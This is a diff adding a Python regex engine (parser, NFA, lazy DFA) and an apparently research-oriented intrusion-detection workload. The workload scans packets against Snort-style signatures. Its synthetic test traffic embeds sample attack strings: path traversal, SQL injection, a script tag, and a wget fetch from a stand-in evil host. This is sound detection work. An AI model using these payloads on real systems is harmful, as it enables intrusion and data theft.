@@ -1,0 +1,421 @@
+"""A regex engine built from scratch (the paper's RE2 analog).
+
+RE2's defining property is linear-time matching via automata instead of
+backtracking; this engine reproduces that architecture in miniature:
+
+1. recursive-descent parser -> AST,
+2. Thompson construction -> NFA with epsilon transitions,
+3. lazy subset construction -> DFA states memoized on demand,
+4. unanchored search by keeping the start state live at every input
+   position.
+
+Supported syntax: literals, ``.``, escapes (``\\d \\w \\s`` and literal
+escapes), character classes ``[a-z0-9]`` with negation and ranges,
+``*``, ``+``, ``?``, alternation ``|``, and grouping ``( )``. Input is
+bytes (the intrusion-detection workload scans raw packets).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+import numpy as np
+
+from ..errors import WorkloadError
+from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec
+
+# ----------------------------------------------------------------------
+# AST
+# ----------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Node:
+    pass
+
+
+@dataclass(frozen=True)
+class CharClass(Node):
+    """A set of byte values, stored as a frozenset."""
+
+    chars: frozenset
+
+
+@dataclass(frozen=True)
+class Concat(Node):
+    parts: tuple
+
+
+@dataclass(frozen=True)
+class Alternate(Node):
+    options: tuple
+
+
+@dataclass(frozen=True)
+class Repeat(Node):
+    child: Node
+    min_count: int  # 0 for * and ?, 1 for +
+    unbounded: bool  # False only for ?
+
+
+_DIGITS = frozenset(range(ord("0"), ord("9") + 1))
+_WORD = frozenset(
+    set(range(ord("a"), ord("z") + 1))
+    | set(range(ord("A"), ord("Z") + 1))
+    | set(_DIGITS)
+    | {ord("_")}
+)
+_SPACE = frozenset({ord(" "), ord("\t"), ord("\n"), ord("\r"), 0x0B, 0x0C})
+_ANY = frozenset(range(256))
+_ESCAPES = {"d": _DIGITS, "w": _WORD, "s": _SPACE}
+
+
+class _Parser:
+    def __init__(self, pattern: str) -> None:
+        self.pattern = pattern
+        self.pos = 0
+
+    def parse(self) -> Node:
+        node = self._alternate()
+        if self.pos != len(self.pattern):
+            raise WorkloadError(
+                f"unexpected {self.pattern[self.pos]!r} at {self.pos} "
+                f"in pattern {self.pattern!r}"
+            )
+        return node
+
+    def _peek(self) -> "str | None":
+        return self.pattern[self.pos] if self.pos < len(self.pattern) else None
+
+    def _take(self) -> str:
+        ch = self._peek()
+        if ch is None:
+            raise WorkloadError(f"unexpected end of pattern {self.pattern!r}")
+        self.pos += 1
+        return ch
+
+    def _alternate(self) -> Node:
+        options = [self._concat()]
+        while self._peek() == "|":
+            self._take()
+            options.append(self._concat())
+        return options[0] if len(options) == 1 else Alternate(tuple(options))
+
+    def _concat(self) -> Node:
+        parts = []
+        while self._peek() not in (None, "|", ")"):
+            parts.append(self._repeat())
+        if not parts:
+            return Concat(())  # empty: matches the empty string
+        return parts[0] if len(parts) == 1 else Concat(tuple(parts))
+
+    def _repeat(self) -> Node:
+        node = self._atom()
+        suffix = self._peek()
+        if suffix == "*":
+            self._take()
+            return Repeat(node, 0, True)
+        if suffix == "+":
+            self._take()
+            return Repeat(node, 1, True)
+        if suffix == "?":
+            self._take()
+            return Repeat(node, 0, False)
+        return node
+
+    def _atom(self) -> Node:
+        ch = self._take()
+        if ch == "(":
+            node = self._alternate()
+            if self._take() != ")":
+                raise WorkloadError(f"unclosed group in {self.pattern!r}")
+            return node
+        if ch == ".":
+            return CharClass(_ANY)
+        if ch == "[":
+            return self._char_class()
+        if ch == "\\":
+            return self._escape()
+        if ch in "*+?)|":
+            raise WorkloadError(f"misplaced {ch!r} in {self.pattern!r}")
+        return CharClass(frozenset({ord(ch)}))
+
+    def _escape(self) -> Node:
+        ch = self._take()
+        if ch in _ESCAPES:
+            return CharClass(_ESCAPES[ch])
+        if ch.isupper() and ch.lower() in _ESCAPES:
+            return CharClass(_ANY - _ESCAPES[ch.lower()])
+        return CharClass(frozenset({ord(ch)}))
+
+    def _char_class(self) -> Node:
+        negate = False
+        if self._peek() == "^":
+            self._take()
+            negate = True
+        chars: set = set()
+        while True:
+            ch = self._peek()
+            if ch is None:
+                raise WorkloadError(f"unclosed class in {self.pattern!r}")
+            if ch == "]" and chars:
+                self._take()
+                break
+            ch = self._take()
+            if ch == "\\":
+                escaped = self._take()
+                if escaped in _ESCAPES:
+                    chars |= _ESCAPES[escaped]
+                    continue
+                ch = escaped
+            if self._peek() == "-" and self.pos + 1 < len(self.pattern) and self.pattern[self.pos + 1] != "]":
+                self._take()
+                hi = self._take()
+                if ord(hi) < ord(ch):
+                    raise WorkloadError(f"inverted range {ch}-{hi}")
+                chars |= set(range(ord(ch), ord(hi) + 1))
+            else:
+                chars.add(ord(ch))
+        return CharClass(frozenset(_ANY - chars) if negate else frozenset(chars))
+
+
+# ----------------------------------------------------------------------
+# Thompson NFA
+# ----------------------------------------------------------------------
+
+
+@dataclass
+class _NfaState:
+    index: int
+    # byte value -> set of successor state indices
+    edges: "dict[int, set]" = field(default_factory=dict)
+    epsilon: "set" = field(default_factory=set)
+
+
+class _NfaBuilder:
+    def __init__(self) -> None:
+        self.states: "list[_NfaState]" = []
+
+    def new_state(self) -> int:
+        state = _NfaState(len(self.states))
+        self.states.append(state)
+        return state.index
+
+    def add_edge(self, src: int, chars: frozenset, dst: int) -> None:
+        for ch in chars:
+            self.states[src].edges.setdefault(ch, set()).add(dst)
+
+    def add_epsilon(self, src: int, dst: int) -> None:
+        self.states[src].epsilon.add(dst)
+
+    def compile(self, node: Node) -> "tuple[int, int]":
+        """Returns (entry, exit) state indices for the fragment."""
+        if isinstance(node, CharClass):
+            entry, exit_ = self.new_state(), self.new_state()
+            self.add_edge(entry, node.chars, exit_)
+            return entry, exit_
+        if isinstance(node, Concat):
+            entry = self.new_state()
+            current = entry
+            for part in node.parts:
+                sub_entry, sub_exit = self.compile(part)
+                self.add_epsilon(current, sub_entry)
+                current = sub_exit
+            return entry, current
+        if isinstance(node, Alternate):
+            entry, exit_ = self.new_state(), self.new_state()
+            for option in node.options:
+                sub_entry, sub_exit = self.compile(option)
+                self.add_epsilon(entry, sub_entry)
+                self.add_epsilon(sub_exit, exit_)
+            return entry, exit_
+        if isinstance(node, Repeat):
+            entry, exit_ = self.new_state(), self.new_state()
+            sub_entry, sub_exit = self.compile(node.child)
+            self.add_epsilon(entry, sub_entry)
+            self.add_epsilon(sub_exit, exit_)
+            if node.min_count == 0:
+                self.add_epsilon(entry, exit_)
+            if node.unbounded:
+                self.add_epsilon(sub_exit, sub_entry)
+            return entry, exit_
+        raise WorkloadError(f"unknown AST node {node!r}")
+
+
+# ----------------------------------------------------------------------
+# Lazy DFA
+# ----------------------------------------------------------------------
+
+
+class Regex:
+    """Compiled pattern with linear-time unanchored search."""
+
+    def __init__(self, pattern: str) -> None:
+        self.pattern = pattern
+        builder = _NfaBuilder()
+        entry, exit_ = builder.compile(_Parser(pattern).parse())
+        self._states = builder.states
+        self._accept = exit_
+        self._start_closure = self._epsilon_closure({entry})
+        # Lazy DFA: frozen NFA-state-set -> {byte -> frozen set}.
+        self._dfa: "dict[frozenset, dict]" = {}
+        self._accepting: "dict[frozenset, bool]" = {}
+
+    def _epsilon_closure(self, states: "set") -> frozenset:
+        stack = list(states)
+        closure = set(states)
+        while stack:
+            for nxt in self._states[stack.pop()].epsilon:
+                if nxt not in closure:
+                    closure.add(nxt)
+                    stack.append(nxt)
+        return frozenset(closure)
+
+    def _step(self, dfa_state: frozenset, byte: int) -> frozenset:
+        transitions = self._dfa.setdefault(dfa_state, {})
+        nxt = transitions.get(byte)
+        if nxt is None:
+            moved: set = set()
+            for index in dfa_state:
+                edges = self._states[index].edges.get(byte)
+                if edges:
+                    moved |= edges
+            # Unanchored search: the start closure stays live always.
+            nxt = self._epsilon_closure(moved | set(self._start_closure))
+            transitions[byte] = nxt
+        return nxt
+
+    def _is_accepting(self, dfa_state: frozenset) -> bool:
+        cached = self._accepting.get(dfa_state)
+        if cached is None:
+            cached = self._accept in dfa_state
+            self._accepting[dfa_state] = cached
+        return cached
+
+    def search(self, data: bytes) -> bool:
+        """True if the pattern matches anywhere in ``data``."""
+        state = self._start_closure
+        if self._is_accepting(state):
+            return True
+        for byte in data:
+            state = self._step(state, byte)
+            if self._is_accepting(state):
+                return True
+        return False
+
+    def __repr__(self) -> str:
+        return f"Regex({self.pattern!r}, {len(self._states)} NFA states)"
+
+
+# ----------------------------------------------------------------------
+# The EMR workload
+# ----------------------------------------------------------------------
+
+#: Snort-flavored signatures the intrusion detector scans packets for.
+DEFAULT_SIGNATURES = (
+    r"GET /etc/passwd",
+    r"\.\./\.\./",
+    r"cmd\.exe\?",
+    r"union select",
+    r"<script>",
+    r"\\x90\\x90\\x90",
+    r"admin(istrator)?:.+:0:0",
+    r"(wget|curl) http",
+)
+
+
+def _serialize_patterns(patterns: "tuple[str, ...]") -> bytes:
+    return "\n".join(patterns).encode("utf-8")
+
+
+def _deserialize_patterns(blob: bytes) -> "list[str]":
+    return blob.decode("utf-8", errors="replace").split("\n")
+
+
+class IntrusionDetectionWorkload(Workload):
+    """Scan packets against a shared signature set.
+
+    Every dataset pairs a private packet with the same ``patterns``
+    region, so EMR replicates the signature block per executor
+    ("Replicate search pattern", Table 5). Outputs are per-packet match
+    bitmasks.
+    """
+
+    name = "intrusion_detection"
+    library_analog = "RE2"
+    paper_replication_strategy = "Replicate search pattern"
+
+    def __init__(
+        self,
+        packet_bytes: int = 512,
+        packets: int = 40,
+        signatures: "tuple[str, ...]" = DEFAULT_SIGNATURES,
+        hit_rate: float = 0.3,
+    ) -> None:
+        if not signatures:
+            raise WorkloadError("need at least one signature")
+        self.packet_bytes = packet_bytes
+        self.packets = packets
+        self.signatures = signatures
+        self.hit_rate = hit_rate
+        self._compiled = [Regex(p) for p in signatures]
+
+    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
+        n_packets = self.packets * scale
+        payloads = []
+        attacks = (
+            b"GET /etc/passwd HTTP/1.0",
+            b"../../../../boot.ini",
+            b"cmd.exe?/c+dir",
+            b"1 union select password from users",
+            b"<script>alert(1)</script>",
+            b"wget http://evil.example/x.sh",
+        )
+        for _ in range(n_packets):
+            packet = bytearray(
+                rng.integers(32, 127, self.packet_bytes, dtype=np.uint8).tobytes()
+            )
+            if rng.random() < self.hit_rate:
+                attack = attacks[int(rng.integers(0, len(attacks)))]
+                start = int(rng.integers(0, self.packet_bytes - len(attack)))
+                packet[start : start + len(attack)] = attack
+            payloads.append(bytes(packet))
+        patterns_blob = _serialize_patterns(self.signatures)
+        traffic = b"".join(payloads)
+        pattern_ref = RegionRef("patterns", 0, len(patterns_blob))
+        datasets = [
+            DatasetSpec(
+                index=i,
+                regions={
+                    "packet": RegionRef("traffic", i * self.packet_bytes, self.packet_bytes),
+                    "patterns": pattern_ref,
+                },
+            )
+            for i in range(n_packets)
+        ]
+        return WorkloadSpec(
+            name=self.name,
+            blobs={"traffic": traffic, "patterns": patterns_blob},
+            datasets=datasets,
+            output_size=8,
+        )
+
+    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
+        patterns = _deserialize_patterns(inputs["patterns"])
+        packet = inputs["packet"]
+        mask = 0
+        for bit, pattern in enumerate(patterns):
+            try:
+                matched = Regex(pattern).search(packet)
+            except WorkloadError:
+                # A corrupted pattern byte can produce an unparseable
+                # regex: surface it as a distinctive (wrong) output the
+                # voters will flag rather than crashing the executor.
+                matched = True
+                mask |= 1 << 63
+            if matched:
+                mask |= 1 << bit
+        return mask.to_bytes(8, "little")
+
+    def instructions_per_job(self, dataset: DatasetSpec) -> int:
+        return dataset.regions["packet"].length * len(self.signatures) * 45
